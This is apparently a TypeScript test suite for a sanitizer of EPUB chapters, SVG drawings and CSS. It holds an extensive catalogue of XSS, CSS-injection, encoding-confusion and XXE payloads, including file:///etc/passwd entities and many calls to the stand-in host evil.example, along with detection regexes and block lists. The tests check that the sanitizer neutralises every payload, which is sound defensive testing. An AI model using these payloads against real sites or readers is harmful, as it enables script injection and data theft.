import { type SaxesAttributeNS, SaxesParser, type SaxesTagNS } from 'saxes';
import { describe, expect, it } from 'vitest';
import { sanitizeCss } from './sanitize-css.ts';
import { sanitizeSvg, sanitizeXhtml } from './sanitize-xhtml.ts';

/**
 * Attacks by what they go through. Whatever comes out is judged here by other means than those it was made with: parsed with
 * namespaces, every name looked up, every style with its comments and escapes undone.
 */
const PATH = 'OPS/text/ch1.xhtml';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"';

const MARKUP: Readonly<Record<string, readonly string[]>> = {
  'elements by prefix': [
    `<h:script ${XHTML}>evil()</h:script>`,
    `<h:iframe ${XHTML} src="http://evil.example/"/>`,
    `<svg><h:script ${XHTML}>evil()</h:script></svg>`,
    `<math><h:img ${XHTML} src="x" onerror="evil()"/></math>`,
    '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>evil()</s:script></s:svg>',
    '<x:p xmlns:x="http://www.w3.org/1999/xhtml" x:onclick="evil()" onclick="evil()">x</x:p>',
    '<p xmlns="http://www.w3.org/2000/svg"><script xmlns="http://www.w3.org/1999/xhtml">evil()</script></p>',
    '<a:b:script xmlns:a="x">evil()</a:b:script>',
    '<xsl:script xmlns:xsl="http://www.w3.org/1999/XSL/Transform">evil()</xsl:script>',
    '<html:base xmlns:html="http://www.w3.org/1999/xhtml" href="http://evil.example/"/>',
  ],
  drawings: [
    '<svg><animate attributeName="href" to="javascript:evil()" begin="0s"/></svg>',
    `<svg ${XLINK}><a id="a"><set attributeName="xlink:href" to="javascript:evil()"/><rect/></a></svg>`,
    '<svg><animateTransform onbegin="evil()"/><animateMotion onend="evil()"/></svg>',
    '<svg><ANIMATE onbegin="evil()"/></svg>',
    '<svg><discard begin="0s" href="#x" onbegin="evil()"/></svg>',
    '<svg><handler type="text/javascript">evil()</handler><listener handler="#h"/></svg>',
    `<svg ${XLINK}><script xlink:href="data:text/javascript,evil()"/></svg>`,
    `<svg ${XLINK}><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`,
    '<svg><use href="//evil.example/a.svg#x"/></svg>',
    '<svg><image href="data:text/html,&lt;script>evil()&lt;/script>"/></svg>',
    '<svg><image href="data:image/svg+xml/../text/html,x"/></svg>',
    '<svg><foreignObject><p onclick="evil()"/><object data="http://evil.example/"/></foreignObject></svg>',
    '<svg><foreignobject><body onload="evil()"/></foreignobject></svg>',
    '<svg><filter><feImage href="http://evil.example/x.png"/></filter></svg>',
    '<svg><pattern href="http://evil.example/a.svg#p"/><linearGradient href="//evil.example/a.svg#g"/></svg>',
    '<svg><rect fill="url(http://evil.example/a.svg#x)" mask="url(//evil.example/#m)" filter="u\\72l(http://evil.example/)"/></svg>',
    '<svg><rect cursor="url(http://evil.example/c.cur), auto" clip-path="url( \'http://evil.example/\' )"/></svg>',
    '<svg><rect marker-end="url(&#x68;ttp://evil.example/#m)" style="fill:url(&quot;http://evil.example/&quot;)"/></svg>',
    '<svg><style>rect{fill:url(http://evil.example/)}</style><style><![CDATA[@import "http://evil.example/x.css";]]></style></svg>',
    '<svg><desc><script>evil()</script><iframe/></desc><title><img src="x" onerror="evil()"/></title></svg>',
    '<svg><metadata><script xmlns="http://www.w3.org/1999/xhtml">evil()</script></metadata></svg>',
    `<svg ${XLINK}><a xlink:href="java&#10;script:evil()"><text>x</text></a></svg>`,
    '<svg><a href="&#1;javascript:evil()"><text>x</text></a><a href="javascript&colon;evil()"><text>x</text></a></svg>',
    '<svg xml:base="http://evil.example/"><image href="x.png"/></svg>',
    '<svg><view id="x" viewTarget="javascript:evil()"/><tref href="http://evil.example/"/></svg>',
    '<svg><font-face-uri href="http://evil.example/f.svg"/><cursor href="http://evil.example/c.png"/></svg>',
    '<svg><color-profile href="http://evil.example/p.icc"/><altGlyph href="http://evil.example/"/></svg>',
    '<svg contentScriptType="text/javascript" onload="evil()" onzoom="evil()"><g onfocusin="evil()"/></svg>',
    '<svg><mpath href="http://evil.example/"/><textPath href="http://evil.example/#x">x</textPath></svg>',
  ],
  formulas: [
    '<math href="javascript:evil()"><mi>x</mi></math>',
    '<math><mi xlink:href="http://evil.example/" xmlns:xlink="http://www.w3.org/1999/xlink">x</mi></math>',
    '<math><maction actiontype="statusline#http://evil.example/" href="javascript:evil()"><mi>x</mi></maction></math>',
    '<math><mglyph src="http://evil.example/x.png"/><mglyph src="javascript:evil()"/></math>',
    '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>evil()</script></annotation-xml></semantics></math>',
    '<math><annotation href="http://evil.example/" src="http://evil.example/" cd="x" definitionURL="http://evil.example/">x</annotation></math>',
    '<math altimg="http://evil.example/x.png" background="http://evil.example/x.png"><mi style="background:url(//evil.example/)">x</mi></math>',
    '<math><mtext><img src="x" onerror="evil()"/><svg onload="evil()"/></mtext></math>',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=evil() src=1>"/></textarea></mtext></svg></mglyph></mi></math>',
  ],
  'documents in documents': [
    '<iframe srcdoc="&lt;script>evil()&lt;/script>"/><frame src="http://evil.example/"/>',
    '<object data="javascript:evil()" type="text/html"/><object data="data:image/svg+xml,&lt;svg onload=evil()>" type="image/svg+xml"/>',
    '<object type="image/png" data="http://evil.example/x.png"><param name="movie" value="http://evil.example/x.swf"/></object>',
    '<object classid="clsid:0" codebase="http://evil.example/"><embed src="http://evil.example/x.swf"/></object>',
    '<embed src="x.svg" onload="evil()"/><applet code="X" archive="http://evil.example/x.jar"/>',
    '<portal src="http://evil.example/"/><fencedframe src="http://evil.example/"/><webview src="http://evil.example/"/>',
    '<template shadowrootmode="open"><img src="x" onerror="evil()"/></template>',
    '<epub:trigger xmlns:epub="e" action="play" ref="x" ev:event="click" xmlns:ev="http://www.w3.org/2001/xml-events" ev:handler="javascript:evil()"/>',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    '<video><source src="http://evil.example/v.mp4" onerror="evil()"/><track src="//evil.example/t.vtt"/></video>',
    '<audio src="data:text/html,x" onloadstart="evil()"/><video poster="//evil.example/p.png" autoplay="" src="x"/>',
  ],
  'where one is sent': [
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"/>',
    '<meta HTTP-EQUIV="Refresh" content="0;url=javascript:evil()"/>',
    '<meta http-equiv="Content-Security-Policy" content="img-src *"/><meta http-equiv="set-cookie" content="a=b"/>',
    '<meta name="viewport" http-equiv="refresh" content="0;url=http://evil.example/"/>',
    '<meta name="referrer" content="unsafe-url"/><meta charset="utf-7"/>',
    '<base href="http://evil.example/" target="_top"/><img src="x.png"/>',
    '<form action="http://evil.example/"><input type="image" src="http://evil.example/x" formaction="javascript:evil()"/></form>',
    '<button formaction="javascript:evil()" type="submit">x</button><input autofocus="" onfocus="evil()"/>',
    '<isindex action="http://evil.example/"/><keygen/><select onchange="evil()"><option>x</option></select>',
    '<a href="x.xhtml" ping="http://evil.example/" attributionsrc="http://evil.example/" target="_top">x</a>',
    '<img src="x.png" attributionsrc="http://evil.example/" lowsrc="http://evil.example/" dynsrc="http://evil.example/" longdesc="http://evil.example/"/>',
    '<a href="https://ok.example/" rel="opener" referrerpolicy="unsafe-url">x</a>',
    '<a href="blob:http://evil.example/1">x</a><a href="data:text/html,x">x</a><a href="file:///etc/passwd">x</a>',
    '<a href="feed:javascript:evil()">x</a><a href="view-source:http://evil.example/">x</a><a href="ms-word:ofe|u|x">x</a>',
    '<a href="\u{1}javascript:evil()">x</a><a href="java\u{ad}script:evil()">x</a><a href="\u{feff}javascript:evil()">x</a>',
    '<a href="jav&#x09;ascript:evil()">x</a><a href="java&#0000010script:evil()">x</a><a href="&#x6A&#x61vascript:evil()">x</a>',
    '<area href="vbscript:evil()" shape="default"/><a href="JAVASCRIPT&#58;evil()">x</a><a href="livescript:evil()">x</a>',
    '<p onclick="evil()" ONCLICK="evil()" onClick ="evil()" formaction="x" data-x="javascript:evil()">x</p>',
    '<details ontoggle="evil()" open=""><summary>x</summary></details><marquee onstart="evil()">x</marquee>',
    '<link rel="import" href="http://evil.example/"/><link rel="preload" as="image" href="http://evil.example/x"/>',
    '<link rel="stylesheet" href="data:text/css,p{}"/><link rel="stylesheet" href="http://evil.example/x.css"/>',
    '<link rel="stylesheet" type="text/xsl" href="x.xsl"/><link rel="dns-prefetch" href="//evil.example"/>',
    '<style media="x" onload="evil()">p{}</style><link rel="stylesheet" href="a.css" onload="evil()" imagesrcset="http://evil.example/"/>',
  ],
  'what loads': [
    '<img src="http&#58;//evil.example/x"/><img src="\\\\evil.example\\x"/><img src="/\\evil.example/x"/>',
    '<img src="&#x2f;/evil.example/x"/><img src=" //evil.example/x"/><img src="/&#9;/evil.example/x"/>',
    '<img src="x" srcset=",http://evil.example/x 1x"/><img srcset="a.png 1x,http://evil.example/x 2x,//evil.example/y"/>',
    '<img srcset="data:text/html,x 1x, javascript:evil() 2x"/><source srcset="//evil.example/x" media="all"/>',
    '<table background="http://evil.example/x"><tr background="//evil.example/"><td background="//evil.example/">x</td></tr></table>',
    '<body background="http://evil.example/x" style="background:url(http://evil.example/y)"><p>x</p></body>',
    '<p xmlns:v="urn:schemas-microsoft-com:vml"><v:image src="http://evil.example/x"/><v:fill src="http://evil.example/x"/></p>',
    '<img is="x-y" src="x" nonce="1" integrity="x" crossorigin="use-credentials" sharedstoragewritable="" browsingtopics=""/>',
    '<bgsound src="http://evil.example/x"/><layer src="http://evil.example/"/><ilayer src="http://evil.example/"/>',
    '<input type="image" src="http://evil.example/x"/><command icon="http://evil.example/x"/>',
    '<html manifest="http://evil.example/m"><head profile="http://evil.example/"/></html>',
    '<q cite="http://evil.example/">x</q><ins cite="javascript:evil()">x</ins>',
  ],
  'text taken for markup': [
    '<![CDATA[<![CDATA[]]><script>evil()</script>]]>',
    '<p><![CDATA[</p><script>evil()</script>]]></p>',
    '<p>]]><script>evil()</script></p>',
    '<style><![CDATA[</style><script>evil()</script><style>]]></style>',
    '<style>/*</style><script>evil()</script>*/</style>',
    '<style><!--</style><script>evil()</script>--></style>',
    '<title><![CDATA[</title><script>evil()</script>]]></title>',
    '<!-- --!><script>evil()</script>-->',
    '<!--><script>evil()</script>-->',
    '<!---><script>evil()</script>-->',
    '<!-- <!-- --><script>evil()</script> -->',
    '<?php echo "?><script>evil()</script>" ?>',
    '<?xml-stylesheet type="text/xsl" href="data:text/xml,&lt;x/>"?><?xml-stylesheet href="http://evil.example/x.css"?><p/>',
    '<!DOCTYPE html SYSTEM "http://evil.example/x.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><p>x</p>',
    '<!DOCTYPE html [<!ENTITY s "&#60;script>evil()&#60;/script>"><!ENTITY t "javascript:evil()">]><p>&s;<a href="&t;">x</a></p>',
    '<!DOCTYPE html [<!ATTLIST p onclick CDATA "evil()"><!ATTLIST img src CDATA "http://evil.example/x">]><p>x<img/></p>',
    '<!DOCTYPE html [<!ENTITY a "]>"><!ENTITY b \'"><script>evil()</script>\'>]><p>&b;</p>',
    '<!doctype html><!DOCTYPE html [<!ENTITY a "<script>evil()</script>">]><p>&a;</p>',
    '<noscript><style></noscript><img src=x onerror=evil()></style></noscript>',
    '<p title="</p><script>evil()</script>">x</p><p title=\'"><script>evil()</script>\'>x</p>',
    '<p title="`onclick=evil()">x</p><p title=`"><script>evil()</script>`>x</p>',
    '<scr<script>ipt>evil()</script>',
    '<<script>evil();//<</script>',
    '<script\u{b}>evil()</script><script\u{0}>evil()</script><s\u{0}cript>evil()</s\u{0}cript>',
    '\u{ff1c}script\u{ff1e}evil()\u{ff1c}/script\u{ff1e}',
    '<p>+ADw-script+AD4-evil()+ADw-/script+AD4-</p>',
    '<xmp></xmp><script>evil()</script></xmp><listing><script>evil()</script></listing><plaintext><script>evil()</script>',
    '<textarea><title></textarea><img src=x onerror=evil()></title></textarea>',
  ],
};

const ENCODED: Readonly<Record<string, Buffer>> = {
  'UTF-16 with a mark': Buffer.from('\u{feff}<p><script>evil()</script>x</p>', 'utf16le'),
  'UTF-16 without a mark': Buffer.from('<p><script>evil()</script>x</p>', 'utf16le'),
  'UTF-16, big end first': Buffer.from('<?xml version="1.0"?><p><script>evil()</script>x</p>', 'utf16le').swap16(),
  'UTF-16 that says UTF-8': Buffer.from(
    '\u{feff}<?xml version="1.0" encoding="utf-8"?><p onclick="evil()"/>',
    'utf16le',
  ),
  'UTF-8 that says UTF-16': Buffer.from('<?xml version="1.0" encoding="utf-16"?><p onclick="evil()">x</p>'),
  'UTF-7': Buffer.from('<?xml version="1.0" encoding="utf-7"?><p>+ADw-script+AD4-evil()+ADw-/script+AD4-</p>'),
  'ISO-2022-JP': Buffer.from(
    '<?xml version="1.0" encoding="iso-2022-jp"?><p title="\u{1b}$B">\u{1b}(B<script>evil()</script></p>',
  ),
  'an unknown encoding': Buffer.from('<?xml version="1.0" encoding="x-none"?><p><script>evil()</script></p>'),
  'overlong UTF-8': Buffer.concat([Buffer.from('<p>'), Buffer.from([0xc0, 0xbc]), Buffer.from('script>evil()</p>')]),
  'Shift-JIS that eats a quote': Buffer.concat([
    Buffer.from('<?xml version="1.0" encoding="shift_jis"?><p title="'),
    Buffer.from([0x83]),
    Buffer.from('" onclick="evil()">x</p>'),
  ]),
  'EBCDIC by name': Buffer.from('<?xml version="1.0" encoding="ibm037"?><p><script>evil()</script></p>'),
};

const STYLES: readonly string[] = [
  'p{background:url(http://evil.example/x)}',
  'p{background:url(\\68 ttp://evil.example/x)}',
  'p{background:url("\\2f\\2f evil.example/x")}',
  'p{background:url(\\\n//evil.example/x)}',
  'p{background:url(//evil.example/x',
  'p{background:url("//evil.example/x',
  'p{background:\\75\\72\\6c(//evil.example/x)}',
  'p{background:\\000075 rl(//evil.example/x)}',
  'p{background:u/**/rl(//evil.example/x)}',
  'p{background:url/**/(//evil.example/x)}',
  'p{background:url(/*x*/"//evil.example/x")}',
  'p{background:url(/*)*/url(//evil.example/x)}',
  'p{background:url(a)url(//evil.example/x)}',
  'p{background:url("a" , "//evil.example/x")}',
  'p{background:src("//evil.example/x")}',
  'p{background:src(var(--x))}',
  'p{--x:url(//evil.example/x);background:var(--x)}',
  'p{--x:"//evil.example/x";background:image-set(var(--x))}',
  'p{background:-webkit-image-set("//evil.example/x" 1x)}',
  'p{background:image(ltr "//evil.example/x")}',
  'p{background:cross-fade("//evil.example/x" 50%)}',
  '@import "//evil.example/x";',
  '@import url(//evil.example/x);',
  '@import src("//evil.example/x");',
  '@import\\20 "//evil.example/x";',
  '@\\000069mport "//evil.example/x";',
  '@IMPORT/**/url("//evil.example/x")screen;',
  '@charset "x";@import "//evil.example/x";',
  '@import "a.css" supports(background: url(//evil.example/x));',
  '@import "data:text/css,@import \'//evil.example/x\'";',
  '@font-face{src:url(//evil.example/x)}',
  '@font-face{src:local(x),url("//evil.example/x")format("woff")}',
  '@namespace x url(//evil.example/x);@import "//evil.example/x";',
  '@media all{@import "//evil.example/x";p{cursor:url(//evil.example/x),auto}}',
  '@document url-prefix("http://evil.example/"){p{}}',
  '@property --x{syntax:"<image>";inherits:false;initial-value:url(//evil.example/x)}',
  '@color-profile --x{src:url(//evil.example/x)}',
  '@counter-style x{system:cyclic;symbols:url(//evil.example/x)}',
  'p{list-style:url(//evil.example/x);content:url(//evil.example/x);border-image:url(//evil.example/x)}',
  'p{mask:url(//evil.example/#x);filter:url(//evil.example/#x);clip-path:url(//evil.example/#x)}',
  'p{offset-path:url(//evil.example/#x);shape-outside:url(//evil.example/x);fill:url(//evil.example/#x)}',
  'p{width:expression(evil())}',
  'p{width:e\\xpression(evil())}',
  'p{width:exp/**/ression(evil())}',
  'p{width:\\65 xpression(evil())}',
  'p{behavior:url(x.htc)}',
  'p{beh\\61vior:url(x.htc)}',
  'p{-moz-binding:url(//evil.example/x#y)}',
  'p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src="//evil.example/x")}',
  'p{background:url(javascript:evil())}',
  'p{background:url("data:text/html,<script>evil()</script>")}',
  '</style><script>evil()</script>',
  '<!-- @import "//evil.example/x"; -->',
  'p{content:"\\"}@import \'//evil.example/x\';"}',
  'p{content:"a\n}@import "//evil.example/x";"}',
  '"\\\n@import "//evil.example/x";',
  "'\\'@import url(//evil.example/x);",
  '/*\\*/@import "//evil.example/x";/**/',
  '/* */ */ @import "//evil.example/x"; /*',
  '\\',
  'p{a:\\}@import "//evil.example/x";',
  '@im\u{0}port "//evil.example/x";',
  '\u{feff}@import "//evil.example/x";',
  'p{background:\u{d7}url(//evil.example/x)}',
  'p{unicode-range:u+aurl(//evil.example/x)}',
  'p{x:1url(//evil.example/x)2.url(//evil.example/x)}',
];

/** A style as a browser takes it: comments gone, escapes undone, strings that are no address emptied. */
function plainStyle(style: string): string {
  const comments = style.replace(/"(?:\\[^]|[^"\\])*"|\/\*[^]*?(?:\*\/|$)/g, (piece) =>
    piece.startsWith('/*') ? '' : piece,
  );
  const harmless = comments.replace(
    /((?:url|src|image|image-set|rect|cross-fade|import)[^"{};]*)?"((?:\\[^]|[^"\\])*)"/gi,
    (_all, address: string | undefined, text: string) => (address === undefined ? '""' : `${address}"${text}"`),
  );
  return harmless.replace(/\\([0-9a-f]{1,6})\s?/gi, (_all, hex: string) => {
    const character = String.fromCodePoint(Math.min(Number.parseInt(hex, 16), 0x10_ff_ff));
    // An escaped space is a letter of its name.
    return /\s/.test(character) ? '_' : character;
  });
}

function styleDangers(style: string): readonly string[] {
  const plain = plainStyle(style);
  const found = [
    /(?<![\w-])(?:url|src)\(\s*["']?\s*(?:[a-z][\w+.-]*:)?[\\/]{2}/i,
    /(?<![\w-])url\(\s*["']?\s*(?!data:(?:image|font|application)\/|about:invalid)[a-z][\w+.-]*:/i,
    /image-set\([^)]*(?:var|attr|env)\(/i,
    /(?:image-set|image|rect|cross-fade)\([^;{}]*"(?:[a-z][\w+.-]*:)?[\\/]{2}/i,
    /@import\s*(?:url\()?\s*["']?(?:[a-z][\w+.-]*:|[\\/]{2})/i,
    /(?<![\w-])expression\(/i,
    /(?<![\w-])(?:behaviou?r|-moz-binding|progid)\s*:/i,
  ].filter((pattern) => pattern.test(plain));
  return found.map((pattern) => `${pattern.source} in ${style}`);
}

const NAMESPACES = new Set([
  'http://www.w3.org/1999/xhtml',
  'http://www.w3.org/2000/svg',
  'http://www.w3.org/1998/Math/MathML',
]);
const NEVER =
  /^(?:script|iframe|frame|frameset|object|embed|applet|param|base|form|input|button|select|option|textarea|template|foreignobject|animate.*|set|discard|handler|listener|portal|fencedframe|webview|slot|use-cred.*|annotation-xml|metadata|include|trigger)$/i;
const NEVER_ATTRIBUTE =
  /^(?:on.*|action|formaction|srcdoc|ping|attributionsrc|target|http-equiv|background|lowsrc|dynsrc|longdesc|manifest|profile|cite|codebase|classid|archive|data|is|nonce|referrerpolicy|definitionurl|to|from|by|attributename|autofocus|autoplay|imagesrcset|base)$/i;

/** An address with another scheme or host, or one that runs; a link may lead to the web. */
function leavesBook(element: string, attribute: string, value: string): boolean {
  const bare = value.replace(/[\s\p{Cc}\p{Cf}]/gu, '');
  if (/^(?:javascript|vbscript|data:text)/i.test(bare)) return true;
  if (!/^(?:href|src|poster|srcset|altimg)$/.test(attribute)) return false;
  const isLink = /^(?:a|area)$/.test(element) && attribute === 'href';
  return isLink
    ? /^(?!https?:|mailto:|tel:)[a-z][\w+.-]*:/i.test(bare)
    : /^(?:(?!data:image\/)[a-z][\w+.-]*:|[\\/]{2})|,(?:https?:)?\/\//i.test(bare);
}

function attributeDangers(
  element: Pick<SaxesTagNS, 'local' | 'uri'>,
  { local, prefix, value }: SaxesAttributeNS,
): readonly string[] {
  const isDrawing = element.uri.endsWith('/svg');
  if (prefix === 'xmlns' || local === 'xmlns')
    return NAMESPACES.has(value) || /xlink|2007\/ops/.test(value) ? [] : [value];
  if (local === 'style') return styleDangers(`p{${value}}`);
  if (NEVER_ATTRIBUTE.test(local)) return [`${element.local} ${local}`];
  if (leavesBook(element.local, local, value)) return [`${local}=${value}`];
  return isDrawing && /[(\\]/.test(value) ? styleDangers(`p{x:${value}}`) : [];
}

/** Everything in a well-formed document that runs, loads from elsewhere or sends away. */
function dangers(markup: string): readonly string[] {
  const found: string[] = [];
  let style: string | undefined;
  const parser = new SaxesParser({ xmlns: true });
  parser.on('opentag', (tag) => {
    if (!NAMESPACES.has(tag.uri)) found.push(`namespace ${tag.uri}`);
    if (NEVER.test(tag.local)) found.push(tag.name);
    if (tag.local === 'style') style = '';
    for (const attribute of Object.values(tag.attributes)) found.push(...attributeDangers(tag, attribute));
  });
  parser.on('closetag', (tag) => {
    if (tag.local === 'style') found.push(...styleDangers(style ?? ''), ...(style?.match(/<|&|]]>/g) ?? []));
    if (tag.local === 'style') style = undefined;
  });
  parser.on('text', (text) => {
    if (style !== undefined) style += text;
  });
  parser.on('processinginstruction', ({ target }) => found.push(`<?${target}`));
  parser.on('comment', () => found.push('a comment'));
  parser.on('cdata', () => found.push('CDATA'));
  parser.on('doctype', (doctype) => {
    if (doctype.trim() !== 'html') found.push(`doctype ${doctype}`);
  });
  parser.write(markup).close();
  return found;
}

const inPage = (markup: string): string =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body>${markup}</body></html>`;

describe.each(Object.entries(MARKUP))('%s', (_what, attacks) => {
  it.each(attacks)('%j does nothing in a chapter, in a drawing, and as the whole document', (attack) => {
    const xhtml = (text: string): string => sanitizeXhtml(Buffer.from(text), { path: PATH });
    const svg = (text: string): string => sanitizeSvg(Buffer.from(text), { path: 'OPS/a.svg' });
    for (const clean of [
      xhtml(attack),
      xhtml(inPage(attack)),
      xhtml(inPage(`<svg>${attack}</svg><math><mtext>${attack}</mtext></math>`)),
      svg(attack),
      svg(`<svg xmlns="http://www.w3.org/2000/svg">${attack}</svg>`),
    ]) {
      expect(dangers(clean)).toEqual([]);
      // Nothing hides in a second reading.
      expect(clean.startsWith('<svg') ? svg(clean) : xhtml(clean)).toBe(clean);
    }
  });
});

describe('bytes that are taken for another encoding', () => {
  it.each(Object.entries(ENCODED))('%s', (_what, bytes) => {
    const clean = sanitizeXhtml(bytes, { path: PATH });
    expect(dangers(clean)).toEqual([]);
    expect(Buffer.from(clean).toString()).toBe(clean);
    expect(dangers(sanitizeSvg(bytes))).toEqual([]);
  });
});

describe('styles', () => {
  it.each(STYLES)('%j loads and runs nothing in a sheet, an element and an attribute', (style) => {
    expect(styleDangers(sanitizeCss(style, 'OPS/a.css'))).toEqual([]);
    const escaped = style.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
    for (const markup of [
      `<style>${style}</style>`,
      `<style><![CDATA[${style}]]></style>`,
      `<p style="${escaped}">x</p><svg><rect fill="${escaped}" style="${escaped}"/><style>${escaped}</style></svg>`,
    ]) {
      expect(dangers(sanitizeXhtml(Buffer.from(inPage(markup)), { path: PATH }))).toEqual([]);
    }
  });

  it('are judged by a judge that knows evil when it sees it', () => {
    const judged = STYLES.filter((style) => styleDangers(style).length > 0);
    expect(judged.length).toBeGreaterThan(STYLES.length / 2);
    expect(dangers(inPage('<p onclick="x"/><img src="//evil.example/"/><script/>'))).toHaveLength(3);
  });
});

it('comes out only what is listed, however new it is', () => {
  const invented =
    'loadfrom="http://evil.example/" x-run="evil()" zoomhref="//evil.example/" data-kept="1" aria-label="x"';
  const page = sanitizeXhtml(Buffer.from(inPage(`<p ${invented}>x</p><newtag ${invented}>y</newtag>`)), { path: PATH });
  expect(page).toContain('<body><p data-kept="1" aria-label="x">x</p>y</body>');
  const drawing = sanitizeSvg(Buffer.from(`<svg VIEWBOX="0 0 1 1"><path ${invented} d="M0 0"/></svg>`));
  expect(drawing).toContain(' viewBox="0 0 1 1"><path data-kept="1" aria-label="x" d="M0 0"></path>');
});
